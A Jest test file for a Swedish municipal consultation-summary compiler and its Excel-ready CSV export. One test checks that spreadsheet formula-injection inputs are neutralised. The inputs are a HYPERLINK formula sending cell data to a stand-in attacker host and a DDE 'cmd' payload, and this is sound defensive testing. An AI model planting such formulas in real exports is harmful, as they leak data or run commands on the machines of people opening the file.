import { describe, expect, it } from '@jest/globals';
import { Remissinstans } from '@app/database';
import { compileSammanstallning, sammanstallningCsv } from './sammanstallning';
import { SynpunktRad } from './sammanstallning.repository';

const huvud = {
  brevhuvud: { kommun: 'enkoping', enhet: 'Kommunstyrelsen' },
  datum: '2025-06-01',
  diarienummer: 'KS2025/118',
  arendemening: 'Förslag till policy för digital omställning',
};
const rad = (r: Partial<SynpunktRad>): SynpunktRad => ({
  instans: 'Utbildningsnämnden',
  typ: 'ovrigt',
  rubrik: null,
  text: 'Text',
  citat: null,
  sida: null,
  strykText: null,
  nyText: null,
  fotnoter: [],
  handling: null,
  handlingOrdning: null,
  ...r,
});
const instans = (namn: string, status: Remissinstans['status'], externSvarFilId: string | null = null) =>
  ({ namn, status, externSvarFilId }) as Remissinstans;

describe('remissammanställning', () => {
  const doc = compileSammanstallning(
    huvud,
    [
      rad({
        typ: 'invandning',
        citat: 'Att genomföra pilotstudier …',
        sida: 5,
        handling: 'Policy',
        handlingOrdning: 1,
        text: 'För kategoriskt.',
      }),
      rad({
        typ: 'andringsforslag',
        citat: 'Varje nämnd och styrelse ska …',
        sida: 5,
        handling: 'Policy',
        handlingOrdning: 1,
        text: 'Omformulera.',
        strykText: 'lämpligast',
        nyText: 'till exempel',
      }),
      rad({
        instans: 'Socialnämnden',
        typ: 'medhall',
        citat: 'Vi drar erfarenhet',
        sida: 5,
        handling: 'Policy',
        handlingOrdning: 1,
      }),
      rad({ typ: 'medhall', citat: 'Inledning', sida: 7, handling: 'Policy', handlingOrdning: 1 }),
      rad({ typ: 'ovrigt', text: 'Allmänt; "bra"' }),
    ],
    [
      instans('Utbildningsnämnden', 'besvarad'),
      instans('Socialnämnden', 'besvarad'),
      instans('Tekniska nämnden', 'avstar'),
      instans('Region Uppsala', 'besvarad', 'fil-1'),
      instans('Kultur- och fritidsnämnden', 'under_beredning'),
    ],
    [
      { nummer: 1, text: 'Är inriktningen rimlig?' },
      { nummer: 2, text: 'Saknas något?' },
    ],
    [
      { instans: 'Socialnämnden', stallning: 'tillstyrker', fragesvar: [{ fraga: 1, text: 'Ja.' }] },
      {
        instans: 'Utbildningsnämnden',
        stallning: 'tillstyrker_med_andringar',
        fragesvar: [{ fraga: 1, text: 'Ja, med ändringar.' }],
      },
    ],
  );

  it('groups synpunkter by handling and page, with counts per kind', () => {
    expect(doc.avsnitt.map((a) => [a.handling, a.sida, a.synpunkter.length])).toEqual([
      ['Policy', 5, 3],
      ['Policy', 7, 1],
    ]);
    expect(doc.avsnitt[0].antalPerTyp).toEqual({ medhall: 1, invandning: 1, andringsforslag: 1, ovrigt: 0 });
    expect(doc.avsnitt[0].synpunkter[1]).toMatchObject({
      instans: 'Utbildningsnämnden',
      citat: { text: 'Varje nämnd och styrelse ska …', sida: 5, handling: 'Policy' },
      stryk: 'lämpligast',
      ersattMed: 'till exempel',
    });
  });

  it('lists answers without reference, external PDF answers, declined and not answered', () => {
    expect(doc.utanHanvisning.map((s) => s.instans)).toEqual(['Utbildningsnämnden', 'Region Uppsala']);
    expect(doc.avstod).toEqual(['Tekniska nämnden']);
    expect(doc.ejSvarat).toEqual(['Kultur- och fritidsnämnden']);
  });

  it('lists the answers per fråga across instanser and counts the positions', () => {
    expect(doc.fragor).toEqual([
      {
        nummer: 1,
        fraga: 'Är inriktningen rimlig?',
        svar: [
          { instans: 'Socialnämnden', text: 'Ja.' },
          { instans: 'Utbildningsnämnden', text: 'Ja, med ändringar.' },
        ],
      },
      { nummer: 2, fraga: 'Saknas något?', svar: [] },
    ]);
    expect(doc.antalPerStallning).toEqual({
      tillstyrker: 1,
      tillstyrker_med_andringar: 1,
      avstyrker: 0,
      inga_synpunkter: 0,
    });
    const lines = sammanstallningCsv(doc).toString('utf8').split('\r\n');
    expect(lines).toContain(';;Socialnämnden;Svar på fråga 1;Är inriktningen rimlig?;Ja.;;');
    expect(lines).toContain(';;Utbildningsnämnden;Ställning;;tillstyrker med ändringar;;');
  });

  it('writes CSV for Swedish Excel: BOM, semicolons, quoted cells, å ä ö as UTF-8', () => {
    const csv = sammanstallningCsv(doc);
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csv.toString('utf8').slice(1).split('\r\n');
    expect(lines[0]).toBe('Remisshandling;Sida;Remissinstans;Typ;Citat;Synpunkt;Stryk;Ersätt med');
    expect(lines[1]).toBe('Policy;5;Utbildningsnämnden;Invändning;Att genomföra pilotstudier …;För kategoriskt.;;');
    expect(lines).toContain(';;Utbildningsnämnden;Övrigt;;"Allmänt; ""bra""";;');
    expect(lines).toContain(';;Tekniska nämnden;Avstår;;;;');
  });

  it.each([
    [
      '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka här")',
      `"'=HYPERLINK(""https://angripare.example/?d=""&A1;""Klicka här"")"`,
    ],
    ['+46 171 625 00', `"'+46 171 625 00"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
  ])(
    'writes text that a spreadsheet would run as a formula (%j) as text: a leading quote, quoted',
    (text, expected) => {
      const farlig = compileSammanstallning(
        huvud,
        [rad({ instans: '=cmd|/C calc!A0', text, strykText: '=1+1' })],
        [],
        [],
        [],
      );
      const lines = sammanstallningCsv(farlig).toString('utf8').slice(1).split('\r\n');
      expect(lines[1]).toBe(`;;"'=cmd|/C calc!A0";Övrigt;;${expected};"'=1+1";`);
    },
  );

  it('leaves text that only contains those characters, and numbers, as they are', () => {
    const vanlig = compileSammanstallning(
      huvud,
      [
        rad({
          text: 'Mejla a@b.se eller ring 0171-625 00 = snabbast',
          sida: 3,
          handling: 'Policy',
          handlingOrdning: 1,
        }),
      ],
      [],
      [],
      [],
    );
    expect(sammanstallningCsv(vanlig).toString('utf8').slice(1).split('\r\n')[1]).toBe(
      'Policy;3;Utbildningsnämnden;Övrigt;;Mejla a@b.se eller ring 0171-625 00 = snabbast;;',
    );
  });
});
